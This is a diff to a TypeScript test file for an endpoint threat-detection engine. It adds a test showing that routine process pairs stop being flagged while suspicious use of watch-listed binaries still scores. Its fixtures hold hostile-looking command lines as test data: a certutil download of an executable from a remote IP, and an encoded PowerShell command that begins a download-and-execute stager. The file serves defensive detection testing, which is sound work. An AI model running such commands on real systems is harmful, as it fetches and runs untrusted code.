@@ -11,6 +11,7 @@ const HOUR = 3_600_000;
 const T0 = Date.UTC(2024, 0, 1);
 const cfg: DetectConfig = {
   watchlist: DEFAULT_WATCHLIST,
+  watchlistRoutineAfter: 100,
   learningWindowMs: 24 * HOUR,
   firstSeenKinds: ['logon', 'process_image', 'process_hash', 'parent_child', 'host_pair'],
   spray: { windowMs: 10 * 60_000, minDistinctUsers: 5 },
@@ -83,6 +84,19 @@ describe('watch-listed binaries', () => {
     const e = proc(T0, 'cmd.exe', 'certutil.exe', 'ws-7', { command_line: 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe' });
     const flags = watchlistFlags(e, list);
     expect(flags.map((f) => [f.rule, f.score])).toEqual([['watchlisted_binary', 20], ['lolbin_suspicious_use', 75]]);
+  });
+
+  it('stops flagging a routine pair but still flags its suspicious use', () => {
+    const routine = (cmd: string) =>
+      proc(T0, 'gpscript.exe', 'cmd.exe', 'ws-7', { command_line: cmd, stats: [{ kind: 'parent_child', key: 'gpscript.exe>cmd.exe', count: 101, first_seen: false }] });
+    expect(watchlistFlags(routine('cmd /c net use h: \\\\fs01\\home'), list, 100)).toEqual([]);
+    const early = proc(T0, 'gpscript.exe', 'cmd.exe', 'ws-7', { stats: [{ kind: 'parent_child', key: 'gpscript.exe>cmd.exe', count: 100, first_seen: false }] });
+    expect(watchlistFlags(early, list, 100)[0]!.reason).toBe('cmd.exe executed from gpscript.exe on ws-7 by alice (this pair ran 100 times so far)');
+    const psRoutine = proc(T0, 'explorer.exe', 'powershell.exe', 'ws-7', {
+      command_line: 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQ=',
+      stats: [{ kind: 'parent_child', key: 'explorer.exe>powershell.exe', count: 5000, first_seen: false }],
+    });
+    expect(watchlistFlags(psRoutine, list, 100).map((f) => f.rule)).toEqual(['lolbin_suspicious_use']);
   });
 
   it('ignores binaries not on the list and events that are not process starts', () => {
